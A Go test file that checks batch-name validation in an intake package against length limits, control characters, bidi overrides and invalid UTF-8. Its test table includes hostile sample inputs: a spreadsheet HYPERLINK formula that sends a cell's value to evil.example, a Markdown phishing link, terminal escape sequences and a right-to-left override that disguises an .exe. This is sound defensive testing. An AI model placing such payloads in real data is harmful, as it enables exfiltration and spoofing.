package intake_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/issuer-dev/issuer/intake"
)

// A batch name is at most 100 characters of one line of plain text; any
// other is refused and nothing is stored.
func TestImportName(t *testing.T) {
	t.Parallel()
	b := setup(t)
	i := 0
	for _, tc := range []struct {
		name string
		ok   bool
	}{
		{"春节满减", true},
		{strings.Repeat("春", 100), true},
		{`=HYPERLINK("http://evil.example/?x="&A2,"Click")`, true}, // plain text: escaped where shown
		{"[点我](http://evil.example) <@all>", true},
		{strings.Repeat("春", 101), false},
		{strings.Repeat("a", 1000), false},
		{"spring\x1b[2J\x1b]0;pwned\x07", false},
		{"line\nbreak", false},
		{"tab\there", false},
		{"del\x7f", false},
		{"c1\u009b31m", false},
		{"bidi\u202egpj.exe", false},
		{"isolate\u2066x\u2069", false},
		{"sep\u2028x", false},
		{"bad utf-8 \xff", false},
	} {
		i++
		var rejects []intake.Reject
		o := opts("favor", &rejects)
		o.Name, o.Source = tc.name, "list.csv"
		rep, err := intake.Import(context.Background(), b.db, strings.NewReader(fmt.Sprintf("openid\noNameTest%d\n", i)), o)
		if tc.ok {
			require.NoError(t, err, "%q", tc.name)
			var got string
			require.NoError(t, b.db.Get(&got, `SELECT name FROM batches WHERE id = $1`, rep.BatchID))
			require.Equal(t, tc.name, got)
			continue
		}
		require.ErrorIs(t, err, intake.ErrBadName, "%q", tc.name)
		require.Nil(t, rep, "refused before the file is read")
	}
	batches, _ := countRows(t, b.db)
	require.Equal(t, 4, batches, "nothing stored for a refused name")
}
